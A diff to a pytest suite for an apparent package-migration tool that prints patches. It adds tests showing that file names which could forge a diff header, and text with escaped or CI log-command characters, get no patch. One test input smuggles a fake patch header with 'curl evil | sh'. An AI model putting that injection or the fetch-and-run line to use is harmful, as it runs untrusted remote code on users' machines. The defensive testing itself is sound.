@@ -51,13 +51,26 @@ def test_patch_has_certain_edits_only(migrate, tmp_path, name):
         assert (tmp_path / name).read_text() == case["text"].replace(case["removed"], case["added"])
 
 
-@pytest.mark.parametrize("name", ["swift.sh\n+++ z.sh\n@@ -0,0 +1 @@\n+curl evil | sh", '"z.sh', "z\x1b.sh"])
+@pytest.mark.parametrize(
+    "name", ["swift.sh\n+++ z.sh\n@@ -0,0 +1 @@\n+curl evil | sh", '"z.sh', "z\x1b.sh", " z.sh"]
+)
 def test_patch_of_a_file_whose_name_could_name_another_is_refused(migrate, name):
-    """A file name with a line break, a quote at its start or an escape gets no patch, and a line on standard error."""
+    """A name with a line break, an escape, or a quote or blank at its start gets no patch, and a line of errors."""
     code, patch, errors = migrate(name, SWIFT, "--from", "ms-swift==3.8", "--to", "ms-swift==4.6", "--diff")
     assert (code, patch) == (1, "")
     assert "no patch for " in errors
     assert len(errors.splitlines()) == 1
+
+
+@pytest.mark.parametrize("end", [" copy.sh", " 2020-01-01 00:00:00.000000000 +0000"])
+@pytest.mark.parametrize("tool", [["git", "apply", "-p0"], ["patch", "-p0"]], ids=lambda words: words[0])
+def test_patch_changes_the_named_file_and_not_one_whose_name_begins_so(migrate, tmp_path, end, tool):
+    (tmp_path / "swift.sh").write_text(SWIFT)
+    options = ("--from", "ms-swift==3.8", "--to", "ms-swift==4.6", "--diff")
+    patch = migrate(f"swift.sh{end}.sh", SWIFT, *options).out
+    subprocess.run(tool, input=patch, text=True, check=True, cwd=tmp_path)
+    assert (tmp_path / "swift.sh").read_text() == SWIFT
+    assert (tmp_path / f"swift.sh{end}.sh").read_text() != SWIFT
 
 
 def test_patch_of_a_script_with_many_runs_applies(migrate, tmp_path):
@@ -69,11 +82,18 @@ def test_patch_of_a_script_with_many_runs_applies(migrate, tmp_path):
     assert (tmp_path / "swift.sh").read_text() == text.replace(removed, added)
 
 
-@pytest.mark.parametrize("text", [TRL.replace("\n", "\r\n"), TRL.replace("use_vllm", "\tuse_vllm")])
-def test_patch_is_printed_only_if_it_applies(migrate, tmp_path, text):
-    """A patch of a file with CRLF line ends would not apply and is not printed; one of a line with a tab applies."""
-    patch = migrate("train.py", text, "--from", "trl==0.17", "--to", "trl==1.16", "--diff").out
-    assert bool(patch) == ("\r" not in text)
+@pytest.mark.parametrize(
+    ("text", "applies"),
+    [
+        (TRL.replace("\n", "\r\n"), False), (TRL.replace("use_vllm", "\tuse_vllm"), True),
+        (TRL.replace("args", "# \u200e\nargs", 1), False), (TRL.replace("args", "# ##[x]\nargs", 1), False),
+        (TRL.replace("args", '"""\n::error::\n"""\nargs', 1), False),
+    ],
+)  # fmt: skip
+def test_patch_is_printed_only_if_it_applies(migrate, tmp_path, text, applies):
+    """A patch with characters that the output escapes would not apply and is not printed; one with a tab applies."""
+    _, patch, errors = migrate("train.py", text, "--from", "trl==0.17", "--to", "trl==1.16", "--diff")
+    assert (bool(patch), "no patch for" in errors) == (applies, not applies)
     if patch:
         subprocess.run(["git", "apply", "-p0"], input=patch, text=True, check=True, cwd=tmp_path)
 
